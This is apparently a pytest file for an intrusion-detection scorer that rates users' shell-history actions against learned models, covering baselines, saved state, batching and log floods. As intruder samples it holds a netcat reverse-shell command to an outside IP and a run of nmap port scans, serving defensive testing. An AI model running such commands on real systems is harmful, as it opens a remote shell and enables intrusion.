"""Actions to scores: whose model, from which state, with what reasons; and what a flood does."""

from __future__ import annotations

import json
import random
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple

import msgspec
import pytest

from anomaly.background import Background
from anomaly.detectors.interface import STEP, WINDOW
from anomaly.identity import Identities
from anomaly.judgement import EXPLAINED_RISK
from anomaly.osquery import Action, Parser, Skipped
from anomaly.records import ALARM, ReasonKind, Score, Severity
from anomaly.scoring import Scorer
from anomaly.store import Store, Stored

if TYPE_CHECKING:
    from tests.conftest import Event, Trained

Later = Callable[[int, int], list[Action]]
ALIEN = {"username": "alice", "command": "nc -e /bin/sh 203.0.113.9 4444"}


def act(user: str = "alice", host: str = "ws1", **columns: str) -> Action:
    """Make an action."""
    return Action(1_793_600_000, host, user, "shell_history", "added", columns)


def test_a_user_without_a_model_gets_a_record_without_a_score(models: Path) -> None:
    """Every action gives a record; without a model its figures are None and its state is ``none``."""
    score = Scorer(Store(models).load).score("id", act("mallory"))
    assert score is not None
    assert (score.score, score.risk, score.surprise) == (None, None, None)
    assert (score.model.algorithm, score.model.version, score.model.state) == (None, None, "none")


def test_a_user_who_is_being_learned(crowd_models: Path) -> None:
    """With a background a user without a model is scored by what everyone does, and never alarmed about."""
    background = Store(crowd_models).load_background()
    assert background is not None
    scorer = Scorer(Store(crowd_models).load, background=background)
    usual, odd = (scorer.score("1", act("mallory", command=text)) for text in ("git status", ALIEN["command"]))
    assert usual is not None
    assert odd is not None
    for score in (usual, odd):
        assert (score.model.algorithm, score.model.version, score.model.state) == (None, None, "learning")
        assert (score.risk, score.severity, score.reasons) == (None, Severity.NONE, ())
    assert 0 <= (usual.score or 0) < (odd.score or 0) <= 100
    row = scorer.score("1", msgspec.structs.replace(act("mallory", **ALIEN), baseline=True))
    assert row is not None
    assert (row.score, row.risk, row.surprise, row.model.state) == (None, None, None, "none")
    assert scorer.export() == {}


def test_only_one_user(models: Path) -> None:
    """A scorer of one user passes over everyone else, and over rows that name nobody."""
    scorer = Scorer(Store(models).load, only="alice")
    assert scorer.score("1", act("bob")) is None
    assert scorer.score("2", act("host:ws1")) is None
    assert scorer.score("3", act("alice")) is not None


def test_nameless_rows_are_claimed(models: Path) -> None:
    """Where the log names nobody, its rows are scored, and shown, as the user's."""
    score = Scorer(Store(models).load, only="alice", claims=True).score("1", act("host:ws1", command="ls"))
    assert score is not None
    assert score.action.user == "alice"
    assert score.score is not None


def test_a_model_of_the_host_comes_first(models: Path) -> None:
    """Where ``alice@ws1`` and ``alice`` both have models, the one of the host scores."""
    store = Store(models)
    stored = store.load("alice")
    assert stored is not None
    asked = []

    def find(name: str) -> Stored | None:
        asked.append(name)
        return Stored(9, stored.model) if name == "alice@ws1" else store.load(name)

    scorer = Scorer(find)
    versions = [scorer.score("1", act(host=host, command="ls")) for host in ("ws1", "ws2")]
    assert [score.model.version for score in versions if score] == [9, 1]
    assert asked == ["alice@ws1", "alice@ws2", "alice"]


def test_models_are_asked_for_once(models: Path) -> None:
    """A name is looked up on disk once, whether it has a model or not."""
    asked = []

    def find(name: str) -> Stored | None:
        asked.append(name)
        return Store(models).load(name)

    scorer = Scorer(find)
    for user in ("alice", "mallory") * 50:
        scorer.score("1", act(user, command="ls"))
    assert sorted(asked) == ["alice", "alice@ws1", "mallory", "mallory@ws1"]


def test_baseline_is_shown_and_not_judged(
    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
) -> None:
    """A baseline row has no score, and moves nothing: what follows scores as if it had not been there."""
    plain, mixed = scorer(trained.models), scorer(trained.models)
    for action in actions[100:160]:
        expected = plain.score("1", action)
        row = mixed.score("0", msgspec.structs.replace(act(action.user, **ALIEN), baseline=True))
        assert row is not None
        assert (row.score, row.surprise, row.reasons) == (None, None, ())
        assert row.model.state == "ready"
        assert mixed.score("1", action) == expected


def test_an_intruder_stands_out_and_is_explained(
    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
) -> None:
    """Commands that a user never gave raise the risk of the window above all of the user's own, with reasons."""
    mine = scorer(trained.models)
    own = [score.risk or 0.0 for action in actions[-400:] if (score := mine.score("1", action))]
    seen = [mine.score("2", act(**ALIEN | {"command": f"nmap -p{n} 10.9.{n}.1"})) for n in range(40)]
    last = seen[-1]
    assert last is not None
    assert (last.risk or 0.0) > max(own)
    first = next(reason for reason in last.reasons if reason.kind is ReasonKind.NEW_VALUE)
    assert (first.field, first.value, first.seen) == ("command", "nmap -p39 10.9.39.1", 0)
    assert first.of > 0
    assert set(first.expected) <= {"git status", "git diff", "pytest -q", "vim src/app.py", "ls", "make test"}


def test_both_views_explain(both_models: Path, actions: list[Action], scorer: Callable[[Path], Scorer]) -> None:
    """What is odd in the sequence is a reason, and from a risk of 20 on the mix of the window, as the last one."""
    mine = scorer(both_models)
    seen = [score for action in actions[-400:] if (score := mine.score("1", action)) and action.user == "alice"]
    for number in range(60):
        score = mine.score("2", act(**ALIEN | {"command": f"nmap -p{number} 10.9.{number}.1"}))
        assert score is not None
        seen.append(score)
    explained = [score for score in seen if score.reasons]
    for score in explained:
        mixes = [reason.kind is ReasonKind.UNUSUAL_MIX for reason in score.reasons]
        assert mixes == [*[False] * (len(mixes) - 1), (score.risk or 0.0) >= EXPLAINED_RISK]
        assert len(mixes) <= 3
    assert {(score.risk or 0.0) >= EXPLAINED_RISK for score in explained} == {False, True}
    assert [reason.kind for reason in seen[-1].reasons] == [ReasonKind.NEW_VALUE, ReasonKind.UNUSUAL_MIX]


def test_usual_actions_are_not_explained(
    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
) -> None:
    """Reasons are given from a score of 10 or a risk of 20 on, and to nothing less."""
    mine = scorer(trained.models)
    scores = [score for action in actions if (score := mine.score("1", action)) and score.score is not None]
    usual = [s for s in scores if (s.score or 0) < 10 and (s.risk or 0) < 20]
    assert usual
    assert not any(score.reasons for score in usual)
    assert any(score.reasons for score in scores)


def test_most_actions_of_training_are_usual(
    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
) -> None:
    """Ten points are one action in ten: of what training itself saw, more than half scores less."""
    mine = scorer(trained.models)
    scores = [score.score for action in actions if (score := mine.score("1", action)) and score.score is not None]
    assert sum(score < 10 for score in scores) > len(scores) / 2


def test_any_action_can_be_scored(trained: Trained, scorer: Callable[[Path], Scorer]) -> None:
    """Queries, verbs and columns that training never saw, and none at all, give a finite score."""
    mine = scorer(trained.models)
    odd = [
        act(),
        act(**{"": "", "\0": "\ud800", "path": "x" * 100_000}),
        Action(0, "", "alice", "", "", {}),
        Action(
            253_402_300_799, "h" * 10_000, "alice", "q" * 10_000, "removed", {str(n): str(n) for n in range(2000)}
        ),
    ]
    for action in odd * 60:
        score = mine.score("1", action)
        assert score is not None
        assert score.score is not None
        assert 0 <= score.score <= 100
        assert 0 <= (score.risk or 0) <= 100


def states(saved: dict[str, Any]) -> Iterator[dict[str, object]]:
    """Yield saved states that something has happened to."""
    damaged: list[object] = [[], None, 5, "x", {}, {"model": None}]
    for user in damaged:
        yield {"alice": user}
    good = saved["alice"]
    assert isinstance(good, dict)
    yield {"alice": {**good, "model": ["LSTM", 1, "another log"]}}
    yield {"alice": {**good, "risk": "high"}}
    yield {"alice": {**good, "risk": []}}
    damage: list[object] = [5, "x", [[]]]
    for name in ("filter", "admission", "adaptation"):
        for value in damage:
            yield {"alice": {**good, name: value}}
        yield {"alice": {key: value for key, value in good.items() if key != name}}
    of_filter = good["filter"]
    unfit_filters: list[object] = [
        {},
        {**of_filter, "odds": []},
        {**of_filter, "odds": [["nan"]] * len(of_filter["odds"])},
        {**of_filter, "scales": []},
        {**of_filter, "scales": [[0.0, 0.0, [[]]]] * len(of_filter["scales"])},
        {**of_filter, "scales": [[0.0, 1.0, [[]] * 99]] * len(of_filter["scales"])},
    ]
    for state in unfit_filters:
        yield {"alice": {**good, "filter": state}}
    window = good["state"]
    unfit: list[object] = [
        None,
        [],
        {},
        {**window, "window": None},
        {**window, "window": [[5000]]},
        {**window, "window": "AAAA"},
        {**window, "sizes": [1]},
        {**window, "sizes": [10**30]},
        {**window, "since": 99},
        {**window, "margin": float("inf")},
        {**window, "margin": "nan"},
        {name: value for name, value in window.items() if name != "since"},
    ]
    if window["sequence"] is not None:
        unfit += [{**window, "sequence": None}, {**window, "sequence": {**window["sequence"], "hidden": [1.0]}}]
    for state in unfit:
        yield {"alice": {**good, "state": state}}


def test_restore_damaged_state_starts_where_training_ended(
    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer]
) -> None:
    """A saved state that is another model's, or is damaged, is replaced by the end of training."""
    first = scorer(trained.models)
    for action in actions[:50]:
        first.score("1", action)
    expected = scorer(trained.models).score("1", actions[200])
    for saved in states(json.loads(json.dumps(first.export()))):
        mine = scorer(trained.models)
        mine.restore(saved)
        assert mine.score("1", actions[200]) == expected


def test_users_who_do_not_act_keep_their_state(models: Path, actions: list[Action]) -> None:
    """What was restored for a user and not used by then is exported again, unchanged."""
    first = Scorer(Store(models).load)
    for action in actions[:50]:
        first.score("1", action)
    saved = msgspec.json.decode(msgspec.json.encode(first.export()))
    second = Scorer(Store(models).load)
    second.restore(saved)
    second.score("1", act("alice", command="ls"))
    again = second.export()
    assert again["bob"] == saved["bob"]
    assert again["alice"] != saved["alice"]


def test_restore_state_of_another_version_keeps_the_suspicion(models: Path, actions: list[Action]) -> None:
    """After a new training the old state is not gone on from, but whoever was suspicious is so still."""
    store = Store(models)
    first = Scorer(store.load)
    for action in actions[-300:]:
        first.score("1", action)
    saved = first.export()
    stored = store.load("alice")
    assert stored is not None
    store.save("alice", stored.model)
    second, fresh = Scorer(store.load), Scorer(store.load)
    second.restore(saved)
    found, expected = second.score("1", actions[200]), fresh.score("1", actions[200])
    assert found is not None
    assert expected is not None
    assert (found.score, found.surprise) == (expected.score, expected.surprise)
    user = second._users["alice"]
    before = [list(odds) for odds in saved["alice"]["filter"]["odds"]]
    for odds, old in zip(user.filter.odds, before, strict=True):
        assert len(odds) == odds.maxlen
        assert list(odds)[:-1] == old[1:]  # the next step comes after those of the model before


def test_another_model_goes_on_where_the_user_stands(models: Path, actions: list[Action]) -> None:
    """A model put in use in the middle of a log scores as the one before did, if it has learned the same."""
    store = Store(models)
    plain, renewed = Scorer(store.load), Scorer(store.load)
    own = [action for action in actions if action.user == "alice" and not action.baseline]
    for action in own[:250]:
        assert plain.score("1", action) == renewed.score("1", action)
    stored = store.load("alice")
    assert stored is not None
    assert not renewed.renew("alice", stored)
    store.save("alice", stored.model)
    assert renewed.renew("alice", store.load("alice"))
    for action in own[250:320]:
        found, expected = renewed.score("1", action), plain.score("1", action)
        assert found is not None
        assert expected is not None
        assert found.model.version == 2
        assert found.score == pytest.approx(expected.score, abs=1e-6)
        assert found.risk == pytest.approx(expected.risk, abs=1e-6)


def test_a_model_may_be_taken_away(models: Path, actions: list[Action]) -> None:
    """A user whose model is gone is one without a model."""
    scorer = Scorer(Store(models).load)
    own = [action for action in actions if action.user == "alice"]
    scorer.score("1", own[0])
    shutil.rmtree(models / "alice")
    assert scorer.renew("alice", None)
    found = scorer.score("1", own[1])
    assert found is not None
    assert found.model.state == "none"


@pytest.mark.parametrize("reverse", [False, True])
def test_users_do_not_touch_each_other(
    trained: Trained, actions: list[Action], scorer: Callable[[Path], Scorer], *, reverse: bool
) -> None:
    """A user's scores are the same whoever else acts in between, in whatever order."""
    alone, mixed = scorer(trained.models), scorer(trained.models)
    own = [action for action in actions if action.user == "alice"][:200]
    other = [action for action in actions if action.user == "bob"][:200]
    expected = [alone.score("1", action) for action in own]
    found = []
    for mine, theirs in zip(own, reversed(other) if reverse else other, strict=False):
        mixed.score("2", theirs)
        found.append(mixed.score("1", mine))
    assert found == expected[: len(found)]


class Life(NamedTuple):
    """Models, what everyone does, and what is in the log after training."""

    models: Path
    background: Background | None
    log: list[tuple[str, Action]]

    def scorer(self, said: list[str], **settings: Any) -> Scorer:  # noqa: ANN401 - as the scorer has them
        """Make a scorer."""
        return Scorer(Store(self.models).load, background=self.background, say=said.append, **settings)


@pytest.fixture(params=["ocsvm", "lstm", "both", "crowd"])
def life(request: pytest.FixtureRequest, later: Later, crowd: Later) -> Life:
    """Give a log of users who learn, with baseline rows, strangers, floods, intruders and rows of nobody."""
    kind = request.param
    models: Path = request.getfixturevalue(f"{kind}_models")
    draw, log = random.Random(kind), list[Action]()  # noqa: S311 - sample data
    own = [action for action in (crowd if kind == "crowd" else later)(780, 8) if action.user in ("alice", "bob")]
    for number, action in enumerate(own):
        log.append(action)
        if draw.random() < 0.05:
            log.append(msgspec.structs.replace(action, baseline=True))
        if draw.random() < 0.1:
            log.append(msgspec.structs.replace(action, user=draw.choice(("mallory", "host:ws1"))))
        if number in (250, 600):
            log += [msgspec.structs.replace(action, user="alice")] * 130
        if number == 1100:
            log += [act(command=f"nmap -p{port} 10.9.{port}.1") for port in range(40)]
    background = Store(models).load_background() if kind == "crowd" else None
    return Life(models, background, [(f"f:{number}", action) for number, action in enumerate(log)])


def cut(log: list[tuple[str, Action]], seed: int) -> Iterator[list[tuple[str, Action]]]:
    """Cut a log into batches of one to hundreds, the first of all of it."""
    draw = random.Random(seed)  # noqa: S311 - places to cut at
    begin = 0
    while begin < len(log):
        size = draw.choice((1, 2, 7, 99, 100, 101, 256, 400)) if seed else len(log)
        yield log[begin : begin + size]
        begin += size


def rounded(saved: Any) -> Any:  # noqa: ANN401 - JSON
    """Return what was saved, as exact as it must be: a restart adds the rarities of a window up anew."""
    if isinstance(saved, dict):
        return {name: rounded(value) for name, value in saved.items()}
    if isinstance(saved, list):
        return [rounded(value) for value in saved]
    return round(saved, 6) if isinstance(saved, float) else saved


class TestBatches:
    """However a log is cut into batches, it is judged the same."""

    def test_cuts_do_not_matter(self, life: Life) -> None:
        """Scores, reasons, what is said and every user's state are, exactly, those of one action at a time."""
        told: list[str] = []
        scorer = life.scorer(told)
        expected = [score for entry in life.log if (score := scorer.score(*entry)) is not None]
        state = scorer.export()
        assert [score.id for score in expected] == [event for event, _ in life.log]
        assert [score.action for score in expected] == [action for _, action in life.log]
        assert any(score.reasons for score in expected)
        assert max(score.risk or 0.0 for score in expected) >= EXPLAINED_RISK
        assert {score.model.state for score in expected} >= {"ready", "learning" if life.background else "none"}
        for name in ("alice", "bob"):
            standing = scorer._users[name]
            assert standing.adaptation is not None
            assert standing.adaptation.progress.generation >= 2
        for seed in range(5):
            said: list[str] = []
            other = life.scorer(said)
            found = [score for batch in cut(life.log, seed) for score in other.score_all(batch)]
            assert found == expected
            assert other.export() == state
            assert said == told

    @pytest.mark.parametrize("seed", [1, 2])
    def test_restarts_do_not_matter(self, life: Life, seed: int) -> None:
        """A restart after any batch changes no figure by more than rounding, and nothing of what is learned."""
        whole, saved = life.scorer([]), dict[str, Any]()
        expected, found = whole.score_all(life.log), list[Score]()
        for batch in cut(life.log, seed):
            scorer = life.scorer([])
            scorer.restore(json.loads(json.dumps(saved)))
            found += scorer.score_all(batch)
            saved = scorer.export()
        for one, other in zip(found, expected, strict=True):
            for name in ("score", "risk", "surprise"):
                should = getattr(other, name)
                assert getattr(one, name) == (None if should is None else pytest.approx(should, abs=1e-6))
            same = {name: getattr(other, name) for name in ("score", "risk", "surprise")}
            assert msgspec.structs.replace(one, **same) == other
        ended, should = (json.loads(json.dumps(state)) for state in (saved, whole.export()))
        for user in ("alice", "bob"):
            assert ended[user]["admission"] == should[user]["admission"]
            for name in ("adaptation", "filter"):
                assert rounded(ended[user][name]) == rounded(should[user][name])

    @pytest.mark.parametrize("claims", [False, True])
    def test_only_one_user(self, life: Life, *, claims: bool) -> None:
        """Of one user only the user's actions are scored, and where claimed those of nobody, in their order."""
        mine = {"alice", "host:ws1"} if claims else {"alice"}
        one, all_at_once = (life.scorer([], only="alice", claims=claims) for _ in range(2))
        expected = [score for entry in life.log if (score := one.score(*entry)) is not None]
        assert all_at_once.score_all(life.log) == expected
        assert [score.id for score in expected] == [event for event, action in life.log if action.user in mine]
        assert {score.action.user for score in expected} == {"alice"}

    def test_nothing_to_score(self, models: Path) -> None:
        """A batch of nothing, or of nothing that is ours, gives nothing and moves nothing."""
        scorer = Scorer(Store(models).load, only="alice")
        assert scorer.score_all([]) == []
        assert scorer.score_all([("1", act("bob")), ("2", act("host:ws1"))]) == []
        assert scorer.export() == {}


def flood(event: Event, what: str, time: int) -> list[bytes]:
    """Return lines of alice's that come all at once."""
    if what == "equal lines":
        return [event(time=time + number // 10, command="sleep 0.1") for number in range(10_000)]
    path, count, runs = ("/usr/sbin/svc", 300, 3) if what == "a reboot" else ("/usr/lib/pkg/lib", 5000, 1)
    return [
        event("alice", "processes", time=time + number * runs // count, name=f"n{number}", path=f"{path}{number}")
        for number in range(count)
    ]


@pytest.mark.parametrize(
    ("what", "kind"),
    [
        *(("equal lines", kind) for kind in ("ocsvm", "lstm", "both", "crowd")),
        *(("a reboot", kind) for kind in ("lstm", "both", "crowd")),
        *(("an upgrade", kind) for kind in ("lstm", "both", "crowd")),
    ],
)
def test_score_flood_does_not_raise_later_risk(
    what: str, kind: str, request: pytest.FixtureRequest, later: Callable[[int, int], list[Action]], event: Event
) -> None:
    """Whatever floods the log, at most the next window and step of own actions are at an alarming risk."""
    make = request.getfixturevalue("crowd") if kind == "crowd" else later
    own = [action for action in make(800, 3) if action.user == "alice"]
    scorer = Scorer(Store(request.getfixturevalue(f"{kind}_models")).load, only="alice")
    before = [scorer.score("1", action) for action in own[:300]]
    parser = Parser(Identities(hostname="", lookup=lambda _: None))
    for line in flood(event, what, own[299].time + 1):
        parsed = parser.parse(line)
        assert not isinstance(parsed, Skipped)
        score = scorer.score("2", parsed[0])
        assert score is not None
        assert score.score is not None
    after = [scorer.score("1", action) for action in own[300:]]
    assert not any((score.risk or 0.0) >= ALARM for score in before if score)
    assert sum((score.risk or 0.0) >= ALARM for score in after if score) <= WINDOW + STEP
